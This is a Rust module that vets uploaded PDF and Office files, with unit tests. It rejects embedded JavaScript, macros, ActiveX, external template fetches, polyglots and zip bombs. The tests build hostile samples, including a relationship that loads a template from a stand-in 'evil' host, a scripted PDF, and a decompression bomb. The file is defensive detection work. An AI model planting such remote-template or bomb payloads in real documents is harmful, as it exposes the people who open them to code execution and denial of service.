//! Papers: PDF, Word and Excel. They are looked through and kept as they are; what would run or fetch something by
//! itself when it is opened is not taken.

use std::io::{Cursor, Read};

use zip::ZipArchive;

use super::rules::{Kind, UNPACKED, Unfit};

/// How many parts a Word or Excel file has at most.
const PARTS: usize = 2_000;

/// Whether a PDF is whole and brings no script along. What lies within compressed objects is not seen: the reader's
/// own program is what keeps it from running, which is why it is handed out to be saved and not shown by us.
pub(super) fn pdf(bytes: &[u8]) -> Result<(), Unfit> {
    let tail = &bytes[bytes.len().saturating_sub(1_100)..];
    if !has(tail, b"%%EOF") || !has(bytes, b"startxref") {
        return Err(Unfit::Broken);
    }
    // An archive is read from its end: a file that is both shows another content to another program.
    if has(&bytes[bytes.len().saturating_sub(66_000)..], b"PK\x05\x06") {
        return Err(Unfit::Active);
    }
    let active: [&[u8]; 3] = [b"/JavaScript", b"/Launch", b"/RichMedia"];
    if active.into_iter().any(|word| has(bytes, word)) {
        return Err(Unfit::Active);
    }
    Ok(())
}

/// What an archive is: Word or Excel without macros, that unpacks to something of a size.
pub(super) fn office(bytes: &[u8]) -> Result<Kind, Unfit> {
    office_within(bytes, UNPACKED)
}

/// The same with another limit of what it unpacks to.
fn office_within(bytes: &[u8], unpacked: u64) -> Result<Kind, Unfit> {
    // Its end record is the last thing in it, so that nothing hangs behind it.
    let end = bytes.len().checked_sub(22).ok_or(Unfit::Broken)?;
    if !bytes[end..].starts_with(b"PK\x05\x06") {
        return Err(if has(bytes, b"PK\x05\x06") { Unfit::Archive } else { Unfit::Broken });
    }
    let broken = |_| Unfit::Broken;
    let mut archive = ZipArchive::new(Cursor::new(bytes)).map_err(broken)?;
    if archive.offset() != 0 {
        return Err(Unfit::Broken);
    }
    if archive.len() > PARTS {
        return Err(Unfit::Bomb);
    }
    let names: Result<Vec<String>, _> =
        archive.file_names().map(|name| name.map(|name| name.to_ascii_lowercase())).collect();
    let names = names.map_err(broken)?;
    let named = |name: &str| names.iter().any(|of| of == name);
    if !named("[content_types].xml") {
        return Err(Unfit::Archive);
    }
    let kind = match () {
        () if named("word/document.xml") => Kind::Docx,
        () if named("xl/workbook.xml") => Kind::Xlsx,
        () => return Err(Unfit::Archive),
    };
    let is_program = |name: &String| name.contains("vbaproject") || name.contains("activex") || ending(name) == "exe";
    if names.iter().any(is_program) {
        return Err(Unfit::Macro);
    }
    let mut left = unpacked;
    for index in 0..archive.len() {
        let part = archive.by_index(index).map_err(|_| Unfit::Locked)?;
        let name = part.name().map_err(broken)?.to_ascii_lowercase();
        // What the archive says of its sizes may be a lie: it is unpacked and counted.
        let mut taken = part.take(left + 1);
        let length = if name == "[content_types].xml" || ending(&name) == "rels" {
            let mut text = Vec::new();
            taken.read_to_end(&mut text).map_err(|_| Unfit::Broken)?;
            judge_part(&text)?;
            text.len() as u64
        } else {
            std::io::copy(&mut taken, &mut std::io::sink()).map_err(|_| Unfit::Broken)?
        };
        left = left.checked_sub(length).ok_or(Unfit::Bomb)?;
    }
    Ok(kind)
}

/// The ending of a part's name.
fn ending(name: &str) -> &str {
    name.rsplit('.').next().unwrap_or_default()
}

/// The parts that say what the others are, and where what is not in the file comes from.
fn judge_part(text: &[u8]) -> Result<(), Unfit> {
    let text = String::from_utf8_lossy(text).to_ascii_lowercase();
    if text.contains("macroenabled") {
        return Err(Unfit::Macro);
    }
    let fetched = text.split('<').any(|element| {
        let outside = element.contains("targetmode=\"external\"") || element.contains("targetmode='external'");
        let by_itself = ["attachedtemplate", "oleobject", "/frame", "externallink"];
        outside && by_itself.iter().any(|kind| element.contains(kind))
    });
    if fetched { Err(Unfit::Active) } else { Ok(()) }
}

/// A Word file from before 2007: a container whose directory names its streams in UTF-16.
pub(super) fn old_word(bytes: &[u8]) -> Result<(), Unfit> {
    let stream = |name: &str| {
        let name: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        has(bytes, &name)
    };
    if bytes.len() < 1_536 || bytes.get(28..30) != Some(&[0xfe, 0xff]) {
        Err(Unfit::Broken)
    } else if stream("EncryptedPackage") {
        Err(Unfit::Locked)
    } else if !stream("WordDocument") {
        Err(Unfit::Unknown)
    } else if stream("_VBA_PROJECT") {
        Err(Unfit::Macro)
    } else {
        Ok(())
    }
}

fn has(bytes: &[u8], word: &[u8]) -> bool {
    let Some(first) = word.first() else { return true };
    let mut rest = bytes;
    while let Some(at) = rest.iter().position(|byte| byte == first) {
        rest = &rest[at..];
        if rest.starts_with(word) {
            return true;
        }
        rest = &rest[1..];
    }
    false
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use zip::ZipWriter;
    use zip::write::SimpleFileOptions;

    use super::*;

    /// An archive of these parts.
    fn archive(parts: &[(&str, &[u8])]) -> Vec<u8> {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        for (name, content) in parts {
            writer.start_file(*name, SimpleFileOptions::default()).unwrap();
            writer.write_all(content).unwrap();
        }
        writer.finish().unwrap().into_inner()
    }

    const TYPES: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");

    #[test]
    fn word_and_excel_are_told_by_their_parts() {
        assert_eq!(office(&archive(&[TYPES, ("word/document.xml", b"<w/>")])), Ok(Kind::Docx));
        assert_eq!(office(&archive(&[TYPES, ("xl/workbook.xml", b"<x/>")])), Ok(Kind::Xlsx));
        assert_eq!(office(&archive(&[("a.txt", b"a")])), Err(Unfit::Archive));
        assert_eq!(office(&archive(&[TYPES, ("ppt/presentation.xml", b"<p/>")])), Err(Unfit::Archive));
    }

    #[test]
    fn what_would_run_or_fetch_by_itself_is_not_taken() {
        let document = ("word/document.xml", &b"<w/>"[..]);
        assert_eq!(office(&archive(&[TYPES, document, ("word/vbaProject.bin", b"x")])), Err(Unfit::Macro));
        let typed = ("[Content_Types].xml", &b"<Override ContentType=\"vnd.ms-word.document.macroEnabled\"/>"[..]);
        assert_eq!(office(&archive(&[typed, document])), Err(Unfit::Macro));
        let fetched =
            b"<Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil/t.dotm\" TargetMode=\"External\"/>";
        let part = ("word/_rels/settings.xml.rels", &fetched[..]);
        assert_eq!(office(&archive(&[TYPES, document, part])), Err(Unfit::Active));
        // A link that somebody has to click stays.
        let linked = b"<Relationship Type=\"http://x/hyperlink\" Target=\"http://gov.cn\" TargetMode=\"External\"/>";
        let part = ("word/_rels/document.xml.rels", &linked[..]);
        assert_eq!(office(&archive(&[TYPES, document, part])), Ok(Kind::Docx));
    }

    #[test]
    fn what_unpacks_to_too_much_and_what_hangs_before_or_behind_is_refused() {
        let zeros = vec![0; 3 << 20];
        let bomb = archive(&[TYPES, ("word/document.xml", &zeros)]);
        assert!(bomb.len() < 50_000);
        assert_eq!(office_within(&bomb, 2 << 20), Err(Unfit::Bomb));
        let document = archive(&[TYPES, ("word/document.xml", b"<w/>")]);
        assert!(office(&[&document[..], b"MZ behind"].concat()).is_err());
        assert!(office(&[&b"MZ before"[..], &document].concat()).is_err());
        assert!(office(&document[..document.len() / 2]).is_err());
    }

    #[test]
    fn a_pdf_is_whole_and_brings_no_script() {
        let whole = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\nstartxref\n9\n%%EOF\n";
        assert_eq!(pdf(whole), Ok(()));
        assert_eq!(pdf(&whole[..40]), Err(Unfit::Broken));
        let script = b"%PDF-1.7\n<</S/JavaScript/JS(app.alert(1))>>\nstartxref\n9\n%%EOF\n";
        assert_eq!(pdf(script), Err(Unfit::Active));
        let both = [&whole[..], &archive(&[TYPES])].concat();
        assert_eq!(pdf(&both), Err(Unfit::Active));
    }

    #[test]
    fn an_old_word_file_is_told_from_its_locked_and_its_living_kin() {
        let file = |streams: &[&str]| {
            let mut bytes = vec![0; 2_048];
            bytes[..8].copy_from_slice(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1");
            bytes[28..30].copy_from_slice(&[0xfe, 0xff]);
            for stream in streams {
                bytes.extend(stream.encode_utf16().flat_map(u16::to_le_bytes));
                bytes.extend([0; 8]);
            }
            bytes
        };
        assert_eq!(old_word(&file(&["WordDocument"])), Ok(()));
        assert_eq!(old_word(&file(&["WordDocument", "_VBA_PROJECT"])), Err(Unfit::Macro));
        assert_eq!(old_word(&file(&["EncryptedPackage"])), Err(Unfit::Locked));
        assert_eq!(old_word(&file(&["Workbook"])), Err(Unfit::Unknown));
    }
}
